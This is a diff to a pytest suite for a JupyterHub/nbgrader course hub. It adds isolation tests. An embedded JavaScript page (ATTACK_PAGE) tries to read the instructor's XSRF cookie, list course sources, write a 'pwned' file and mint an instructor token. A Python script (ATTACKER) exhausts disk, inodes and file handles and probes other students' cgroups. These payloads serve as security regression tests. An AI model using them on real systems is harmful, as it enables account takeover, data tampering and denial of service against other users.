@@ -42,6 +42,7 @@ pytest_plugins = ["tests.browser"]  # screenshot + page text of a failed test
 pytestmark = pytest.mark.xdist_group("hub")
 
 SECTION = "02_qkv_by_hand"
+DISK, INODES = "160M", 20000   # each student's disk on the test hub (deploy/hub.py student_disk)
 MISTAKE = "no_scale"     # the named mistake the second student makes (graders/s02_qkv_by_hand.py)
 
 
@@ -94,13 +95,18 @@ class HubRun:
 
     @property
     def base(self):
-        return f"http://127.0.0.1:{self.port}"
+        """The hub's origin (each user's server is on its own: :meth:`user_url`)."""
+        return f"http://localhost:{self.port}"
+
+    def user_url(self, user) -> str:
+        """Where ``user``'s server is, on its own origin (chromium resolves every *.localhost to this machine)."""
+        return f"http://{user}.localhost:{self.port}/user/{user}"
 
     def start(self, timeout: float = 180):
-        roster = self.hubdir.parent / f"{self.hubdir.name}-roster.csv"    # names for one student, none for the other
+        roster = self.hubdir / "roster.csv"    # names for one student, none for the other
         roster.write_text(f"id,first_name,last_name\n{self.students[0]},Ada,Lovelace\n{self.students[1]},,\n")
         cmd = [str(ROOT / "course"), "hub", "--roster", str(roster), "--instructor", self.instructor,
-               "--dir", str(self.hubdir), "--port", str(self.port)]
+               "--dir", str(self.hubdir), "--port", str(self.port), "--user-disk", DISK, "--user-inodes", str(INODES)]
         env = {k: v for k, v in os.environ.items() if not k.startswith(("JPY_", "JUPYTER", "ATTNCOURSE_"))}
         self.proc = subprocess.Popen(cmd, cwd=ROOT, env=env, stdout=subprocess.PIPE, stderr=subprocess.STDOUT,
                                      text=True, start_new_session=True)
@@ -120,6 +126,7 @@ class HubRun:
             if m:
                 self.passwords[m.group(2)] = m.group(3)
         assert set(self.passwords) == set(self.users), self.lines
+        print(f"./course hub started in {time.time() - deadline + timeout:.1f} s")
         self.settings = json.loads((self.hubdir / "hub.json").read_text())
         return self
 
@@ -187,7 +194,8 @@ def hub():
     from deploy.hub import remove_user
 
     tag = "acst" + secrets.token_hex(3)
-    hubdir = Path(tempfile.mkdtemp(prefix="attncourse-hub-", dir="/tmp"))
+    # (not under /tmp: ./course hub refuses it, every grading kernel has a /tmp of its own)
+    hubdir = Path(tempfile.mkdtemp(prefix="attncourse-hub-test-", dir="/srv"))
     hubdir.chmod(0o755)
     run = HubRun(hubdir, tag)
     try:
@@ -215,7 +223,7 @@ class Pages:
     """One browser context per user (their own hub cookie); every page opened is kept for the failure report."""
 
     def __init__(self, browser, hub: HubRun):
-        self.browser, self.hub, self.pages, self.contexts = browser, hub, {}, []
+        self.browser, self.hub, self.pages, self.contexts, self.ready, self.clicked = browser, hub, {}, [], set(), {}
 
     def login(self, user, wait: bool = True):
         """Log in at the hub's page (the hub starts the user's server); ``wait``: until JupyterLab is up."""
@@ -229,9 +237,13 @@ class Pages:
             page.fill("input#username_input", user)
             page.fill("input#password_input", self.hub.passwords[user])
             page.click("#login_submit")
+            self.clicked[user] = time.time()
         page = self.pages[user]
         if wait:
             page.wait_for_selector(".jp-LabShell", timeout=240_000)   # the user's own server started, JupyterLab up
+            if user not in self.ready:
+                self.ready.add(user)
+                print(f"{user}: JupyterLab up {time.time() - self.clicked[user]:.1f} s after logging in")
         return page
 
     def close(self):
@@ -243,10 +255,15 @@ class UserLab:
     """What NotebookPage needs of a server: the URL of a path in this user's JupyterLab."""
 
     def __init__(self, hub: HubRun, user: str):
-        self.base = f"{hub.base}/user/{user}"
+        self.base = hub.user_url(user)
 
     def url(self, path: str = "lab") -> str:
         return f"{self.base}/{path.lstrip('/')}"
+
+
+def _status(page, url) -> int:
+    """The HTTP status of ``url`` fetched by ``page`` (its cookies, its origin)."""
+    return page.evaluate("async u => (await fetch(u, {redirect: 'manual'})).status", url)
 
 
 # -- formgrader -------------------------------------------------------------------------------------------
@@ -264,7 +281,7 @@ def _fg_button(page, row, column: str, timeout: float = 600) -> str:
 
 
 def _assignment_row(page, hub: HubRun):
-    page.goto(f"{hub.base}/user/{hub.instructor}/formgrader/manage_assignments")
+    page.goto(f"{hub.user_url(hub.instructor)}/formgrader/manage_assignments")
     row = page.locator("tr").filter(has_text=SECTION)
     row.wait_for(timeout=120_000)
     return row
@@ -457,7 +474,7 @@ def test_round_trip_release_fetch_submit_collect_grade_feedback(hub, pages, requ
             menu = page.locator(".lm-Menu").inner_text()
             page.keyboard.press("Escape")
             assert "Assignment List" in menu and "Formgrader" not in menu, menu
-            assert page.request.get(f"{hub.base}/user/{student}/formgrader/manage_assignments").status == 404
+            assert _status(page, f"{hub.user_url(student)}/formgrader/manage_assignments") == 404
             panel = _assignments(page)
             fetch_row = _panel_row(panel, "released")
             fetch_row.wait_for()
@@ -474,7 +491,9 @@ def test_round_trip_release_fetch_submit_collect_grade_feedback(hub, pages, requ
             nbformat.write(work, str(tmp))
             shutil.chown(tmp, student, student)
             os.replace(tmp, folder / f"{SECTION}.ipynb")
+            t = time.time()
             nb = NotebookPage(page, UserLab(hub, student), f"{SECTION}/{SECTION}.ipynb").open(timeout=180)
+            print(f"{student}: first notebook open in {time.time() - t:.1f} s")
             nb.type_into(nb.cell("def scaled_dot_product_attention", "YOUR CODE HERE"), answers[student])
             nb.save()
             dialog = nb.validate(timeout=300)
@@ -504,7 +523,7 @@ def test_round_trip_release_fetch_submit_collect_grade_feedback(hub, pages, requ
         by_course_grade = _scores(hub)
         # 4b. formgrader's Autograde button, for each student
         t = time.time()
-        ipage.goto(f"{hub.base}/user/{hub.instructor}/formgrader/manage_submissions/{SECTION}")
+        ipage.goto(f"{hub.user_url(hub.instructor)}/formgrader/manage_submissions/{SECTION}")
         for s in hub.students:
             srow = ipage.locator("tr").filter(has_text=s)
             srow.wait_for()
@@ -530,7 +549,7 @@ def test_round_trip_release_fetch_submit_collect_grade_feedback(hub, pages, requ
         print(f"graded three ways after {time.time() - t0:.0f} s")
 
         # formgrader's Manual Grading page of the class (where written answers are graded)
-        ipage.goto(f"{hub.base}/user/{hub.instructor}/formgrader/gradebook/{SECTION}/{SECTION}")
+        ipage.goto(f"{hub.user_url(hub.instructor)}/formgrader/gradebook/{SECTION}/{SECTION}")
         ipage.locator("tr").filter(has_text=hub.students[1]).wait_for()
         shot(ipage, test, "22-formgrader-manual-grading")
         # its names (shown with the eye): the roster's, else the login alone (first_name None; "" showed "acst…s2,")
@@ -538,7 +557,7 @@ def test_round_trip_release_fetch_submit_collect_grade_feedback(hub, pages, requ
         assert names == sorted(["Lovelace, Ada", hub.students[1]]), names
 
         # formgrader's Manage Students: ./course hub put the roster in the gradebook (names, else the login)
-        ipage.goto(f"{hub.base}/user/{hub.instructor}/formgrader/manage_students")
+        ipage.goto(f"{hub.user_url(hub.instructor)}/formgrader/manage_students")
         # (this list joins "last, first" whatever they are: a student without a name is "login, None" as in any
         # nbgrader gradebook where the first name is left empty)
         for s, name in zip(hub.students, ("Lovelace, Ada", f"{hub.students[1]}, None")):
@@ -714,7 +733,9 @@ def test_collect_takes_the_released_notebook_as_a_file_and_the_kernels_time(hub,
     t0 = time.time()
     log = _ok(_nbg_instructor(hub, nbg, "collect", SECTION, "--update", f"--student={s2}"))
     got = hub.course / "submitted" / s2 / SECTION
-    assert sorted(os.listdir(got)) == ["timestamp.txt"], (os.listdir(got), log)
+    # the crafted folder gives nothing (collect passes over it to the student's earlier real submission, if any)
+    assert "ipykernel_launcher.py" not in os.listdir(got) and "gradebook.db" not in os.listdir(got), os.listdir(got)
+    assert "### BEGIN SOLUTION" not in (got / f"{SECTION}.ipynb").read_text() if (got / f"{SECTION}.ipynb").exists() else True
     assert f"{SECTION}.ipynb: a link" in log and "ipykernel_launcher.py: not a released notebook" in log, log
     when = (got / "timestamp.txt").read_text()
     assert when.startswith(time.strftime("%Y-%m-%d", time.gmtime(t0))), when
@@ -763,6 +784,341 @@ def test_a_kernel_never_imports_from_the_notebooks_folder(hub):
     finally:
         shutil.rmtree(folder, ignore_errors=True)
         marker.unlink(missing_ok=True)
+
+
+# -- one student against the class: their own origin, their own disk, their own folder ---------------------------
+def _api(hub, method, path, *, host=None, token=None, body=None, timeout=60):
+    """(status, JSON or text) of a request through the hub's proxy (to 127.0.0.1, ``host`` as the Host header:
+    only the browser resolves *.localhost)."""
+    import urllib.error
+    import urllib.request
+
+    req = urllib.request.Request(f"http://127.0.0.1:{hub.port}{path}", method=method,
+                                 data=None if body is None else json.dumps(body).encode())
+    req.add_header("Host", host or f"localhost:{hub.port}")
+    if token:
+        req.add_header("Authorization", f"token {token}")
+    try:
+        with urllib.request.urlopen(req, timeout=timeout) as r:
+            status, text = r.status, r.read().decode()
+    except urllib.error.HTTPError as exc:
+        status, text = exc.code, exc.read().decode()
+    try:
+        return status, json.loads(text)
+    except ValueError:
+        return status, text
+
+
+def _token(hub, user) -> str:
+    """A hub API token of ``user``, asked for with their password (PAM), as a script of theirs would."""
+    status, got = _api(hub, "POST", f"/hub/api/users/{user}/tokens",
+                       body={"auth": {"username": user, "password": hub.passwords[user]}, "note": "test"})
+    assert status in (200, 201), (status, got)
+    return got["token"]
+
+
+def _server_up(hub, user, token, restart=False):
+    """Start ``user``'s server through the hub's API (stopped first with ``restart``), once it answers."""
+    if restart:
+        _api(hub, "DELETE", f"/hub/api/users/{user}/server", token=token)
+        deadline = time.time() + 120
+        while time.time() < deadline and _api(hub, "GET", f"/hub/api/users/{user}", token=token)[1].get("servers"):
+            time.sleep(1)
+    _api(hub, "POST", f"/hub/api/users/{user}/server", token=token)
+    deadline = time.time() + 240
+    while time.time() < deadline:
+        info = _api(hub, "GET", f"/hub/api/users/{user}", token=token)[1]
+        if (info.get("servers") or {}).get("", {}).get("ready"):
+            return
+        time.sleep(1)
+    raise AssertionError(f"{user}'s server did not start: {info}")
+
+
+def _in_kernel(hub, user, token, code, timeout=300) -> str:
+    """Run ``code`` in a fresh kernel of ``user``'s own server (their limits, their mounts: what their notebook or
+    terminal runs), through the server's REST and websocket API; its printed output."""
+    import asyncio
+    import uuid
+
+    from tornado.httpclient import HTTPRequest
+    from tornado.websocket import websocket_connect
+
+    host = f"{user}.localhost:{hub.port}"
+    status, kernel = _api(hub, "POST", f"/user/{user}/api/kernels", host=host, token=token, body={})
+    assert status == 201, (status, kernel)
+
+    async def run():
+        ws = await websocket_connect(HTTPRequest(
+            f"ws://127.0.0.1:{hub.port}/user/{user}/api/kernels/{kernel['id']}/channels",
+            headers={"Host": host, "Authorization": f"token {token}"}))
+        msg_id = uuid.uuid4().hex
+        await ws.write_message(json.dumps({
+            "header": {"msg_id": msg_id, "msg_type": "execute_request", "username": user, "session": msg_id,
+                       "version": "5.3"}, "parent_header": {}, "metadata": {}, "channel": "shell", "buffers": [],
+            "content": {"code": code, "silent": False, "store_history": False, "user_expressions": {},
+                        "allow_stdin": False}}))
+        out = []
+        while True:
+            m = json.loads(await ws.read_message())
+            if m.get("parent_header", {}).get("msg_id") != msg_id:
+                continue
+            if m["msg_type"] == "stream":
+                out.append(m["content"]["text"])
+            elif m["msg_type"] == "error":
+                out.append("\n".join(m["content"]["traceback"]))
+            elif m["msg_type"] == "status" and m["content"]["execution_state"] == "idle":
+                ws.close()
+                return "".join(out)
+
+    from concurrent.futures import ThreadPoolExecutor
+
+    try:   # (in a thread of its own: the browser's driver keeps an event loop in this one)
+        with ThreadPoolExecutor(1) as pool:
+            return pool.submit(asyncio.run, asyncio.wait_for(run(), timeout)).result()
+    finally:
+        _api(hub, "DELETE", f"/user/{user}/api/kernels/{kernel['id']}", host=host, token=token)
+
+
+ATTACK_PAGE = """<!doctype html><title>plot</title><script>
+window.attack = async (instructor, hubOrigin) => {
+  const out = {};
+  const home = instructor + "/api/contents/";
+  try { const f = document.createElement("iframe"); f.src = instructor + "/lab"; document.body.appendChild(f);
+        await new Promise(ok => { f.onload = ok; setTimeout(ok, 15000); });
+        out.xsrf = (f.contentDocument.cookie.match(/_xsrf=([^;]+)/) || [])[1] || "none";
+  } catch (e) { out.xsrf = "blocked"; }
+  const xsrf = out.xsrf && !["blocked", "none"].includes(out.xsrf) ? out.xsrf :
+               (document.cookie.match(/_xsrf=([^;]+)/) || [])[1] || "";
+  const headers = {"X-XSRFToken": decodeURIComponent(xsrf)};
+  try { const r = await fetch(home + "attention-transformers/source", {credentials: "include", headers});
+        out.source = r.status === 200 ? (await r.json()).content.map(e => e.name).join(",") : "status " + r.status;
+  } catch (e) { out.source = "blocked"; }
+  try { const r = await fetch(home + "pwned.txt", {method: "PUT", credentials: "include",
+          headers: {...headers, "Content-Type": "application/json"},
+          body: JSON.stringify({type: "file", format: "text", content: "pwned"})});
+        out.write = "status " + r.status;
+  } catch (e) { out.write = "blocked"; }
+  try { const r = await fetch(hubOrigin + "/hub/api/users/" + instructor.split("/").pop() + "/tokens",
+          {method: "POST", credentials: "include", body: "{}"});
+        out.token = "status " + r.status;
+  } catch (e) { out.token = "blocked"; }
+  return out;
+};
+</script><p>my plot</p>"""
+
+
+@pytest.mark.slow
+def test_a_page_a_student_serves_cannot_reach_the_instructor(hub, pages):
+    """The take-over: a student adds ``extra_static_paths`` to their own ~/.jupyter config and restarts; their
+    ``static/plot.html`` was served, and, opened once by the instructor, made an instructor token, framed the
+    instructor's server to read its _xsrf, read ``source/`` and wrote into the instructor's home. Now the
+    student's config is not read (a plain Jupyter config path of theirs still lists it: the pairing), and a page
+    on the student's origin, whatever serves it, reaches none of it; the very same page on the instructor's own
+    origin (the one origin every server shared before) reads ``source/`` and writes the file."""
+    s = hub.students[0]
+    home = hub.home(s)
+    conf = home / ".jupyter" / "jupyter_server_config.py"
+    conf.parent.mkdir(parents=True, exist_ok=True)
+    conf.write_text(f"c.ServerApp.extra_static_paths = [{str(home / 'mystatic')!r}]\n")
+    (home / "mystatic").mkdir(exist_ok=True)
+    (home / "mystatic" / "plot.html").write_text(ATTACK_PAGE)
+    subprocess.run(["chown", "-R", f"{s}:{s}", str(conf.parent), str(home / "mystatic")], check=True)
+    token = _token(hub, s)
+    _server_up(hub, s, token, restart=True)
+    status, _ = _api(hub, "GET", f"/user/{s}/static/plot.html", host=f"{s}.localhost:{hub.port}")
+    assert status == 404, status
+    listed = hub.as_user(s, f"{hub.settings['venv']}/bin/python", "-c",
+                         "from jupyter_core.paths import jupyter_config_path; print(jupyter_config_path())")
+    assert str(home / ".jupyter") in listed.stdout, listed   # the pairing: a plain server of theirs reads that file
+
+    ipage = pages.login(hub.instructor)
+    instructor = hub.user_url(hub.instructor)
+    marker = hub.home(hub.instructor) / "pwned.txt"
+    results = {}
+    for where in (f"{hub.user_url(s)}/plot.html", f"{instructor}/plot.html"):   # the student's origin; the pairing
+        ipage.route(where, lambda route: route.fulfill(status=200, content_type="text/html", body=ATTACK_PAGE))
+        ipage.goto(where)
+        results[where] = ipage.evaluate("([i, h]) => window.attack(i, h)", [instructor, hub.base])
+        results[where]["file"] = marker.exists()
+        marker.unlink(missing_ok=True)
+    print(json.dumps(results, indent=1))
+    theirs, own = results.values()
+    assert theirs["source"] in ("blocked",) or theirs["source"].startswith("status"), theirs
+    assert theirs["xsrf"] == "blocked" and not theirs["file"] and theirs["token"] != "status 201", theirs
+    assert SECTION in own["source"] and own["file"], own    # the same page, on the one shared origin of before
+    conf.unlink()
+
+
+ATTACKER = r"""
+import errno, json, os, resource
+out, home = {}, os.path.expanduser("~")
+def fill(path, keep=False):
+    n = 0
+    try:
+        with open(path, "wb", buffering=0) as f:
+            while True:
+                n += f.write(b"x" * (1 << 20))
+    except OSError as exc:
+        return n, errno.errorcode[exc.errno]
+    finally:
+        if not keep and os.path.exists(path):
+            os.unlink(path)
+out["tmp"] = fill("/tmp/fill")
+out["shm"] = fill("/dev/shm/fill")
+os.makedirs(os.path.join(home, "many"), exist_ok=True)
+n, why = 0, ""
+try:
+    while True:                       # every inode of the disk, kept
+        open(os.path.join(home, "many", str(n)), "w").close()
+        n += 1
+except OSError as exc:
+    why = errno.errorcode[exc.errno]
+out["inodes"] = (n, why)
+os.unlink(os.path.join(home, "many", "0"))
+out["home"] = fill(os.path.join(home, "fill"), keep=True)   # then every byte, kept
+held = []
+soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
+resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))   # as high as the account may
+try:
+    while True:
+        held.append(open("/dev/null"))
+except OSError as exc:
+    out["open_files"] = (len(held), errno.errorcode[exc.errno])
+for f in held:
+    f.close()
+others = {}
+for p in CGROUP_FILES:
+    try:
+        open(p).read(); others[p] = "read"
+    except OSError as exc:
+        others[p] = errno.errorcode[exc.errno]
+out["others_cgroups"] = others
+print(json.dumps(out))
+"""
+
+
+@pytest.mark.slow
+def test_one_student_exhausting_their_disk_and_files_leaves_the_class_working(hub, released):
+    """196k empty files exhausted the machine's inodes (logins failed: the hub's SQLite shares the disk) and
+    2.6 GB filled its disk; one student held 980,000 open files; every student read every other's cgroup. Now,
+    from a kernel of the attacker's own server: their disk fills (bytes, then files) at its size, their /tmp is
+    on it, /dev/shm is 64 MiB of their own, open files stop at the hub's limit, the classmate's cgroup is closed
+    -- and meanwhile the honest classmate logs in, submits, is collected and gets feedback. Paired: the same
+    writes and opens outside the student's server (no hub limits: a shell on the machine) go past each limit."""
+    from deploy.hub import CGROUPS, parse_size, resolve_limits
+
+    honest, attacker = hub.students
+    limits = resolve_limits(hub.settings["limits"])
+    assert hub.settings.get("disks"), f"no disks of their own here: {hub.settings.get('no_disk')}"
+    _server_up(hub, honest, _token(hub, honest))   # (its cgroups: the attacker tries to read them)
+    cgroup_files = [str(p) for p in CGROUPS.glob(f"*/attncourse-hub/{honest}/*")
+                    if p.name in ("cgroup.procs", "memory.usage_in_bytes", "memory.current", "pids.current")]
+    token = _token(hub, attacker)
+    _server_up(hub, attacker, token)
+    machine = os.statvfs(hub.settings["state"])   # the hub's state: the machine's disk
+    t = time.time()
+    try:
+        out = json.loads(_in_kernel(hub, attacker, token, f"CGROUP_FILES = {cgroup_files!r}\n" + ATTACKER).strip()
+                         .splitlines()[-1])
+        print(f"the attack from {attacker}'s kernel ({time.time() - t:.0f} s): {json.dumps(out)}")
+        after = os.statvfs(hub.settings["state"])
+        used = ((machine.f_bavail - after.f_bavail) * after.f_frsize, machine.f_favail - after.f_favail)
+        print(f"the machine's disk meanwhile: {used[0] / 2**20:.1f} MiB and {used[1]} inodes used")
+        assert used[0] < 64 << 20 and used[1] < 1000, used   # (others work on this machine too)
+        disk = parse_size(DISK)
+        assert out["home"][1] in ("ENOSPC", "EFBIG") and out["home"][0] <= disk, out
+        assert out["tmp"][1] in ("ENOSPC", "EFBIG") and out["tmp"][0] <= disk, out
+        assert out["shm"][1] == "ENOSPC" and out["shm"][0] <= 64 << 20, out
+        assert out["inodes"][1] in ("ENOSPC", "EDQUOT") and out["inodes"][0] <= INODES, out
+        assert out["open_files"][1] == "EMFILE" and out["open_files"][0] < limits["open_files"], out
+        assert cgroup_files and set(out["others_cgroups"].values()) == {"EACCES"}, out
+        # the class meanwhile, the attacker's disk full (bytes and inodes): a login (PAM and the hub's database),
+        # a submission, collect, feedback
+        _token(hub, honest)
+        nbg = _nbgrader(hub)
+        _ok(_nbg_student(hub, honest, nbg, "submit", SECTION))
+        log = _ok(_nbg_instructor(hub, nbg, "collect", SECTION, "--update", f"--student={honest}"))
+        assert (hub.course / "submitted" / honest / SECTION / f"{SECTION}.ipynb").is_file(), log
+        if (hub.course / "feedback" / honest / SECTION).is_dir():   # (the round trip made it)
+            _ok(_nbg_instructor(hub, nbg, "release_feedback", SECTION))
+            _ok(_nbg_student(hub, honest, nbg, "fetch_feedback", SECTION))
+        # the pairing: the same code where the hub's limits do not apply (a shell outside the student's server)
+        free = hub.as_user(attacker, "python3", "-c", f"""
+import os
+n = 0
+with open("/var/tmp/{attacker}-fill", "wb") as f:
+    while n < {disk + (32 << 20)}:
+        n += f.write(b"x" * (1 << 20))
+os.unlink("/var/tmp/{attacker}-fill")
+import resource
+resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
+held = [open("/dev/null") for _ in range({limits['open_files'] + 100})]
+print(n, len(held))""", cwd="/")
+        assert free.returncode == 0, free.stderr[-2000:]
+        n, files = map(int, free.stdout.split())
+        assert n > disk and files > limits["open_files"], free
+        assert os.access(cgroup_files[0], os.R_OK)   # (root reads it: the file is there)
+    finally:
+        shutil.rmtree(hub.home(attacker) / "many", ignore_errors=True)
+        (hub.home(attacker) / "fill").unlink(missing_ok=True)
+
+
+def test_a_student_cannot_stop_the_class_collection(hub, released):
+    """``chmod 700`` on one's own submission folder made ``nbgrader collect`` fail for the class (rc 1, 0 of 3);
+    a chmod of one's inbound folder dropped its setgid bit for good. Now the student cannot chmod their inbound
+    folder (the instructor's), and a submission they close is their own line in collect's log while the classmate
+    is collected; the instructor's ``list --inbound --remove`` works on the students' folders. Paired: reopened,
+    that submission is collected again."""
+    s1, s2 = hub.students
+    nbg = _nbgrader(hub)
+    inbound = released / "inbound"
+    assert hub.as_user(s2, "chmod", "700", str(inbound / s2), cwd="/").returncode != 0
+    assert (inbound / s2).stat().st_mode & 0o777 == 0o770
+    for s in (s1, s2):
+        _ok(_nbg_student(hub, s, nbg, "submit", SECTION))
+    newest = max((p for p in (inbound / s2).iterdir() if p.name.startswith(f"{s2}+")), key=lambda p: p.stat().st_ctime)
+    _ok(hub.as_user(s2, "chmod", "700", str(newest), cwd="/"))
+    shutil.rmtree(hub.course / "submitted", ignore_errors=True)
+    log = _ok(_nbg_instructor(hub, nbg, "collect", SECTION))
+    assert f"Left out {newest}: cannot be read" in log, log
+    assert (hub.course / "submitted" / s1 / SECTION / f"{SECTION}.ipynb").is_file(), log
+    _ok(hub.as_user(s2, "chmod", "755", str(newest), cwd="/"))
+    _ok(_nbg_instructor(hub, nbg, "collect", SECTION, "--update"))
+    stamp = (hub.course / "submitted" / s2 / SECTION / "timestamp.txt").read_text()
+    from deploy.course_exchange import folder_time, format_time
+
+    assert stamp == format_time(folder_time(str(newest))), stamp
+    # the instructor removes the students' submissions (PermissionError on the 2750 folders before)
+    log = _ok(_nbg_instructor(hub, nbg, "list", "--inbound", "--remove", SECTION))
+    left = _ok(_nbg_instructor(hub, nbg, "list", "--inbound", SECTION))
+    assert s1 not in left and s2 not in left, (log, left)
+
+
+FORK_SERVER_PROBE = ("import os, sys; sys.path.insert(0, os.getcwd()); from judge import sandbox, zygote; "
+                     "z = zygote.get(sandbox.kernel_env(os.environ, '/tmp'), 64, 2048); "
+                     "print('started' if z else zygote.why_not())")
+
+
+@pytest.mark.slow
+def test_the_preloaded_fork_server_starts_on_the_hub(hub):
+    """On the hub the preloaded fork server never started ("No module named 'resource'"), so every grading kernel
+    was a fresh sandbox: the hub's Python lived in its folder under /tmp (the tests' hub), and a kernel's /tmp is
+    its own, hiding it. ./course hub refuses a folder under /tmp; the fork server starts for the instructor in the
+    course folder. Paired: the same Python copied under /tmp fails as before."""
+    from deploy.hub import _why_not_dir, base_python, shared_venv
+
+    assert "under /tmp" in _why_not_dir(Path("/tmp/attncourse-hub")) and _why_not_dir(hub.hubdir) is None
+    got = hub.as_user(hub.instructor, f"{hub.settings['venv']}/bin/python", "-c", FORK_SERVER_PROBE, cwd=hub.course,
+                      timeout=300)
+    assert got.stdout.strip().splitlines()[-1:] == ["started"], got.stdout + got.stderr
+    under_tmp = Path(tempfile.mkdtemp(prefix="attncourse-hub-python-", dir="/tmp"))
+    try:
+        venv = shared_venv(under_tmp / "venv", base_python(under_tmp / "python"))
+        before = subprocess.run([str(venv / "bin" / "python"), "-c", FORK_SERVER_PROBE], cwd=hub.course,
+                                capture_output=True, text=True, timeout=300)
+        assert "No module named 'resource'" in before.stdout, before.stdout + before.stderr
+    finally:
+        shutil.rmtree(under_tmp, ignore_errors=True)
 
 
 @pytest.mark.slow
